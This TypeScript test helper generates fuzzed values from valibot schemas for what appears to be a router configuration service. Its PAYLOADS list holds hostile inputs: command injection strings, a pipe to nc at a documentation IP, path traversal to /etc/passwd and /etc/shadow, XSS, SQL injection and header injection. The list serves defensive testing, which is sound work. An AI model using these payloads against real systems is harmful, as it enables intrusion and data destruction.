import fc from "fast-check";
import type { GenericSchema } from "valibot";
import * as v from "valibot";

/** As much of a schema of valibot as a generator looks at. */
interface Shape {
  readonly type: string;
  readonly entries?: Readonly<Record<string, GenericSchema>>;
  readonly item?: GenericSchema;
  readonly wrapped?: GenericSchema;
  readonly options?: readonly unknown[];
  readonly literal?: unknown;
  readonly value?: GenericSchema;
}

/** Values that a schema takes, so that hostile ones come past it. */
export function valuesOf(schema: GenericSchema): fc.Arbitrary<unknown> {
  const shape = schema as unknown as Shape;
  switch (shape.type) {
    case "string":
      return pooled(schema, STRINGS, fc.string({ maxLength: 40 }));
    case "number":
      return pooled(schema, NUMBERS, fc.integer());
    case "boolean":
      return fc.boolean();
    case "picklist":
      return fc.constantFrom(...(shape.options ?? []));
    case "literal":
      return fc.constant(shape.literal);
    case "array":
      return fc.array(shape.item === undefined ? fc.jsonValue() : valuesOf(shape.item), {
        minLength: 1,
        maxLength: 3,
      });
    case "strict_object":
      return objectOf(shape.entries ?? {});
    case "optional":
      return shape.wrapped === undefined ? fc.constant(undefined) : valuesOf(shape.wrapped);
    case "nullable":
      return fc.oneof(
        fc.constant(null),
        shape.wrapped === undefined ? fc.constant(null) : valuesOf(shape.wrapped),
      );
    case "variant":
    case "union":
      return fc.oneof(...(shape.options ?? []).map((one) => valuesOf(one as GenericSchema)));
    case "record":
      return fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), {
        maxKeys: 4,
      });
    default:
      return fc.jsonValue();
  }
}

function objectOf(entries: Readonly<Record<string, GenericSchema>>): fc.Arbitrary<unknown> {
  const required = Object.keys(entries).filter(
    (key) => (entries[key] as unknown as Shape | undefined)?.type !== "optional",
  );
  return fc.record(
    Object.fromEntries(Object.entries(entries).map(([key, one]) => [key, valuesOf(one)])),
    { requiredKeys: required },
  );
}

/** What of a pool a schema takes; a text of any kind where it takes none. */
function pooled(
  schema: GenericSchema,
  pool: readonly unknown[],
  other: fc.Arbitrary<unknown>,
): fc.Arbitrary<unknown> {
  const fit = pool.filter((value) => v.is(schema, value));
  return fit.length === 0 ? other : fc.oneof(fc.constantFrom(...fit), other);
}

const STRINGS = [
  "a",
  "a name",
  "wan",
  "lan",
  "192.168.1.50",
  "192.168.1.0/24",
  "192.168.1.1/24",
  "02:00:00:00:00:01",
  "example.org",
  "a long password",
  "0123456789abcdef".repeat(4),
  "wan,hosts",
  "12",
  "3",
];
const NUMBERS = [0, 1, 2, 10, 80, 443, 6881, 65_535, 1_800_000_000_000];

/** S-18, S-20 and their kind: none of these is ever more than text. */
export const PAYLOADS: readonly string[] = [
  ";id",
  "$(touch /tmp/canary)",
  "`touch /tmp/canary`",
  "a\nb",
  "a\r\nset-cookie: x=1",
  "-f/etc/passwd",
  "--help",
  "| nc 192.0.2.1 1",
  "\u0000",
  "a\u0000b",
  "\u202egnp.exe",
  "\ud800",
  "🏠".repeat(40),
  "../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "/etc/shadow",
  "C:\\windows",
  "%00",
  "%2e%2e%2f",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE revisions; --",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "+",
  "#",
  "gw/v1/config/cmd/apply",
  "$SYS/#",
  "999999999999999999999",
  "1e309",
  "NaN",
  "x".repeat(300),
  "x".repeat(5000),
  "",
  " ",
];

/** The places of a JSON value, and the value with something else in one of them. */
export function replacedIn(value: unknown, pick: number, by: unknown): unknown {
  const places = countPlaces(value);
  let left = pick % places;
  const walk = (node: unknown): unknown => {
    if (left === 0) {
      left -= 1;
      return by;
    }
    left -= 1;
    if (Array.isArray(node)) return node.map(walk);
    if (typeof node !== "object" || node === null) return node;
    return Object.fromEntries(Object.entries(node).map(([key, item]) => [key, walk(item)]));
  };
  return walk(value);
}

function countPlaces(value: unknown): number {
  if (typeof value !== "object" || value === null) return 1;
  return 1 + Object.values(value).reduce<number>((sum, item) => sum + countPlaces(item), 0);
}
